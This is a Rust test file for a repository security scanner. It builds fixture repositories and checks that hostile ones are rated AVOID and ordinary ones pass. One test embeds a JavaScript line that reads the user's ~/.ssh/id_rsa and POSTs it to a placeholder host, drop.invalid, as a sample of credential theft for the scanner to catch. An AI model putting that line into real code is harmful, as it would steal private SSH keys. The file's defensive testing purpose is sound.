//! Hostile and ordinary repositories, kept as small text files in `tests/fixtures/oss`.
//!
//! A fixture is one file: `-- path --` starts a file of the repository. Hosts end in `.invalid`, so
//! that nothing here could ever reach anybody.

use std::path::Path;

use serde_json::Value;

use super::{MIT, Repository, check, program, report, settings};
use crate::support::Home;

/// Files of a project that every check likes, so that only the fixture itself can cost points.
const RESPECTABLE: &[(&str, &str)] = &[
    ("LICENSE", MIT),
    (
        "SECURITY.md",
        "# Security\n\nPlease write to security@example.org. We answer within three days.\n",
    ),
    (".github/workflows/ci.yml", "on: push\njobs:\n  test:\n    steps:\n      - run: make test\n"),
    ("fuzz/fuzz_targets/a.rs", "// libfuzzer\n"),
    ("tests/test_all.py", "def test_all():\n    assert True\n"),
];

/// The files of one fixture.
fn parse(text: &str) -> Vec<(String, String)> {
    let mut files: Vec<(String, String)> = Vec::new();
    for line in text.split_inclusive('\n') {
        let path = line.trim_end().strip_prefix("-- ").and_then(|line| line.strip_suffix(" --"));
        match (path, files.last_mut()) {
            (Some(path), _) => files.push((path.to_owned(), String::new())),
            (None, Some((_, text))) => text.push_str(line),
            (None, None) => {}
        }
    }
    files
}

/// A fixture with its files and its report.
struct Reported {
    name: String,
    files: Vec<(String, String)>,
    report: Value,
}

/// Reports on the fixtures of a folder.
fn reports(folder: &str) -> Vec<Reported> {
    let home = Home::new();
    settings(&home, "build = false\n");
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/oss").join(folder);
    let mut paths: Vec<_> =
        std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    paths.sort();
    let made = paths.iter().map(|path| {
        let name = path.file_stem().unwrap().to_string_lossy().into_owned();
        let files = parse(&std::fs::read_to_string(path).unwrap());
        let mut all: Vec<(&str, &str)> = RESPECTABLE.to_vec();
        all.extend(files.iter().map(|(path, text)| (path.as_str(), text.as_str())));
        let repository = Repository::new(&home, &name, &all);
        for day in 1..13 {
            let people = ["ann@example.org", "bob@example.org", "cleo@example.org"];
            repository.git(
                &["commit", "--quiet", "--allow-empty", "--message=work"],
                day,
                people[day as usize % 3],
            );
        }
        Reported { report: report(&home, &repository), name, files }
    });
    made.collect()
}

#[test]
fn hostile_repositories_are_avoided_by_file_and_line() {
    let found = reports("hostile");
    assert!(found.len() >= 12, "{} fixtures", found.len());
    let mut missed = Vec::new();
    for Reported { name, files, report } in found {
        let notes = report["usageNotes"].as_str().unwrap();
        // The line that does it is marked in a comment, in a language of people.
        let marked = files.iter().find_map(|(path, text)| {
            let line = text.lines().position(|line| line.contains("HERE"))?;
            Some(format!("{path}:{}", line + 1))
        });
        let marked = marked.unwrap_or_else(|| panic!("{name} marks no line"));
        if report["securityVerdict"] != "AVOID" || !notes.contains(&marked) {
            missed.push(format!("{name}: {} {marked} not in {notes}", report["securityVerdict"]));
        }
    }
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}

#[test]
fn ordinary_repositories_raise_no_alarm() {
    let found = reports("ordinary");
    assert!(found.len() >= 20, "{} fixtures", found.len());
    let mut alarmed = Vec::new();
    for Reported { name, report, .. } in found {
        let by_score = match report["securityScore"].as_u64().unwrap() {
            80.. => "SAFE",
            60.. => "VERIFY",
            40.. => "CAUTION",
            _ => "AVOID",
        };
        let low = ["install-scripts", "credential-theft", "obfuscated"]
            .iter()
            .any(|name| check(&report, name)["score"].as_u64().is_some_and(|score| score < 5));
        if report["securityVerdict"] != by_score || by_score == "AVOID" || low {
            alarmed.push(format!("{name}: {} {}", report["securityVerdict"], report["usageNotes"]));
        }
    }
    assert!(alarmed.is_empty(), "{}", alarmed.join("\n"));
}

#[test]
fn scripts_can_stop_at_the_exit_code() {
    let home = Home::new();
    settings(&home, "build = false\n");
    let thief = "const key = require('fs').readFileSync(process.env.HOME + '/.ssh/id_rsa');\nfetch('https://drop.invalid/', { method: 'POST', body: key });\n";
    for (name, text, code) in [("thief", thief, 3), ("fine", "console.log('hello');\n", 0)] {
        let mut files = RESPECTABLE.to_vec();
        files.push(("index.js", text));
        files.push(("lib.py", "def add(a, b):\n    return a + b\n\n\ndef sub(a, b):\n    return a - b\n\n\ndef mul(a, b):\n    return a * b\n"));
        let repository = Repository::new(&home, name, &files);
        let output = program(&home, &["oss", repository.path.to_str().unwrap()]).output().unwrap();
        assert_eq!(output.status.code(), Some(code), "{name}");
        let text = String::from_utf8(output.stdout).unwrap();
        assert!(!text.contains("SAFE"), "{text}");
    }
}
